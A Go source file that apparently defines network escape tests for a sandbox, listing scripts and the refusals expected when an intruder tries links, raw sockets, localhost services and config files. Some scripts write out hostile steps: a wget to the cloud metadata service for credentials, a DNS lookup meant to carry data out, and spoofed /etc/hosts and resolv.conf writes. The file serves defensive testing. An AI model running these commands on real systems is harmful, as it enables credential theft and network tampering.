// SPDX-License-Identifier: Apache-2.0

package attacks

var network = []Attack{
	{
		Name: "link-up", Family: "network", Tries: "sets links up and down, adds an interface and moves it", StoppedBy: Capability, Stage: Both,
		Script: `try dummy ip link add dummy0 type dummy; try veth ip link add v0 type veth peer name v1; try mtu ip link set lo mtu 1280; ./intruder if-up=lo if-address=lo`,
		Inside: []string{"dummy no", "veth no", "mtu no", "if-up=lo EPERM", "if-address=lo EPERM"},
		Calls:  []string{"rtnetlink(link)", "ioctl(SIOCSIFFLAGS)", "ioctl(SIOCSIFADDR)"},
	},
	{
		Name: "addresses-routes", Family: "network", Tries: "adds addresses, routes, rules and neighbours", StoppedBy: Capability, Stage: Both,
		Script: `try address ip address add 192.0.2.1/24 dev lo; try route ip route add default dev lo; try rule ip rule add from all table 7; try neigh ip neigh add 192.0.2.2 lladdr 02:00:00:00:00:01 dev lo; ./intruder netlink-address netlink-route`,
		Inside: []string{"address no", "route no", "rule no", "neigh no", "netlink-address EPERM", "netlink-route EPERM"},
		Calls:  []string{"rtnetlink(address)", "rtnetlink(route)"},
	},
	{
		Name: "netlink-unseen", Family: "network", Tries: "configures links by ways that the record of refused calls may not see", StoppedBy: Capability, Stage: Both,
		Script:  `./intruder netlink-write netlink-dup`,
		Inside:  []string{"netlink-write EPERM", "netlink-dup EPERM"},
		Outcome: "unchanged|refused",
	},
	{
		Name: "links-seen", Family: "network", Tries: "finds the machine's interfaces and addresses", StoppedBy: Namespace, Stage: Both,
		Script: `say links "$(sed -n 's/^ *\([^ :]*\):.*/\1/p' /proc/net/dev | tr '\n' ,)"; say routes $(sed 1d /proc/net/route | wc -l)`,
		Inside: []string{"links lo,", "routes 0"},
	},
	{
		Name: "localhost", Family: "network", Tries: "connects to services of the host on 127.0.0.1 and ::1 (the epilog has a loopback, of its own)", StoppedBy: Namespace, Stage: Both,
		Script: `./intruder tcp=127.0.0.1:$VICTIM_PORT udp=127.0.0.1:$VICTIM_PORT tcp6=::1:$VICTIM_PORT`,
		Inside: []string{"tcp=127.0.0.1:5514 ENETUNREACH|ECONNREFUSED", "udp=127.0.0.1:5514 ENETUNREACH|ok", "tcp6=::1:5514 ENETUNREACH|EADDRNOTAVAIL|EAFNOSUPPORT|ECONNREFUSED"},
	},
	{
		Name: "metadata", Family: "network", Tries: "asks the cloud's metadata service for credentials", StoppedBy: Namespace, Stage: Both,
		Script: `./intruder tcp=169.254.169.254:80 tcp=169.254.169.254:5514 tcp6=::ffff:169.254.169.254:80; try wget busybox wget -q -T 2 -O- http://169.254.169.254/latest/meta-data/`,
		Inside: []string{"tcp=169.254.169.254:80 ENETUNREACH", "tcp=169.254.169.254:5514 ENETUNREACH", "tcp6=::ffff:169.254.169.254:80 ENETUNREACH", "wget no"},
	},
	{
		Name: "raw-sockets", Family: "network", Tries: "opens raw and packet sockets", StoppedBy: Capability, Stage: Both,
		Script: `./intruder socket=inet:raw socket=inet:raw-icmp socket=inet6:raw socket=packet:raw socket=packet:dgram socket=packet:high`,
		Inside: []string{"socket=inet:raw EPERM|EPROTONOSUPPORT|ESOCKTNOSUPPORT", "socket=inet:raw-icmp EPERM|EPROTONOSUPPORT|ESOCKTNOSUPPORT", "socket=inet6:raw EPERM|EPROTONOSUPPORT|ESOCKTNOSUPPORT", "socket=packet:raw EAFNOSUPPORT",
			"socket=packet:dgram EAFNOSUPPORT", "socket=packet:high EAFNOSUPPORT"},
	},
	{
		Name: "netlink-families", Family: "network", Tries: "opens netlink sockets other than the one for routes", StoppedBy: Seccomp, Stage: Both,
		Script: `./intruder netlink=uevent netlink=audit netlink=netfilter netlink=generic netlink=xfrm netlink=diag netlink=connector netlink=scsi netlink=crypto netlink=fib netlink=selinux netlink=route`,
		Inside: []string{"netlink=uevent EAFNOSUPPORT", "netlink=audit EAFNOSUPPORT", "netlink=netfilter EAFNOSUPPORT", "netlink=generic EAFNOSUPPORT", "netlink=xfrm EAFNOSUPPORT",
			"netlink=diag EAFNOSUPPORT", "netlink=connector EAFNOSUPPORT", "netlink=scsi EAFNOSUPPORT", "netlink=crypto EAFNOSUPPORT", "netlink=fib EAFNOSUPPORT", "netlink=selinux EAFNOSUPPORT", "netlink=route ok"},
	},
	{
		Name: "other-families", Family: "network", Tries: "opens sockets of families whose code few have read", StoppedBy: Seccomp, Stage: Both,
		Script: `./intruder socket=alg:seqpacket socket=key:raw socket=bluetooth:raw socket=xdp:raw socket=qipcrtr:dgram socket=nfc:seqpacket socket=ax25:dgram socket=pppox:stream socket=rxrpc:dgram socket=llc:dgram socketpair=tipc socketpair=inet`,
		Inside: []string{"socket=alg:seqpacket EAFNOSUPPORT", "socket=key:raw EAFNOSUPPORT", "socket=bluetooth:raw EAFNOSUPPORT", "socket=xdp:raw EAFNOSUPPORT", "socket=qipcrtr:dgram EAFNOSUPPORT",
			"socket=nfc:seqpacket EAFNOSUPPORT", "socket=ax25:dgram EAFNOSUPPORT", "socket=pppox:stream EAFNOSUPPORT", "socket=rxrpc:dgram EAFNOSUPPORT", "socket=llc:dgram EAFNOSUPPORT",
			"socketpair=tipc EAFNOSUPPORT", "socketpair=inet EAFNOSUPPORT|EOPNOTSUPP|EPROTONOSUPPORT"},
	},
	{
		Name: "other-protocols", Family: "network", Tries: "opens SCTP, MPTCP, L2TP and UDP-Lite sockets", StoppedBy: Seccomp, Stage: Both,
		Script: `./intruder socket=inet:sctp socket=inet6:sctp socket=inet:mptcp socket=inet:l2tp socket=inet:udplite`,
		Inside: []string{"socket=inet:sctp EPROTONOSUPPORT", "socket=inet6:sctp EPROTONOSUPPORT", "socket=inet:mptcp EPROTONOSUPPORT", "socket=inet:l2tp EPROTONOSUPPORT", "socket=inet:udplite EPROTONOSUPPORT"},
	},
	{
		Name: "low-port", Family: "network", Tries: "listens where the host's services listen, and takes their port", StoppedBy: Namespace, Stage: Both,
		Script: `./intruder listen=0.0.0.0:$VICTIM_PORT bind-low=514`,
		Inside: []string{"listen=0.0.0.0:5514 ok", "bind-low=514 EACCES"},
	},
	{
		Name: "packet-filter", Family: "network", Tries: "alters the packet filter and binds to devices", StoppedBy: Capability, Stage: Both,
		Script: `./intruder iptables-replace bind-device so-mark tun=/dev/net/tun`,
		Inside: []string{"iptables-replace EPERM|ENOPROTOOPT", "bind-device EPERM|ENODEV", "so-mark EPERM", "tun=/dev/net/tun ENOENT"},
	},
	{
		Name: "name-lookup", Family: "network", Tries: "resolves names, which would carry data out", StoppedBy: Namespace, Stage: Both,
		Script: `./intruder udp=192.0.2.53:53; try lookup timeout 3 busybox nslookup secret.example.org 192.0.2.53`,
		Inside: []string{"udp=192.0.2.53:53 ENETUNREACH", "lookup no"},
	},
	{
		Name: "network-config", Family: "network", Tries: "writes the network's configuration files", StoppedBy: Policy, Stage: Both,
		Script: `mkdir -p /etc/network/interfaces.d /etc/systemd/network /etc/NetworkManager/conf.d /etc/netplan; echo x >/etc/resolv.conf.new; mv /etc/resolv.conf.new /etc/resolv.conf; echo '192.0.2.1 deb.example.org' >>/etc/hosts
			for f in /etc/network/interfaces.d/x /etc/systemd/network/00-x.network /etc/NetworkManager/conf.d/x.conf /etc/netplan/x.yaml; do echo x >$f; done`,
		Outcome: "refused", Refused: []string{"always-refused /etc/resolv.conf", "always-refused /etc/network/interfaces.d/x", "always-refused /etc/systemd/network/00-x.network",
			"always-refused /etc/NetworkManager/conf.d/x.conf", "always-refused /etc/netplan/x.yaml", "path /etc/hosts"},
	},
}
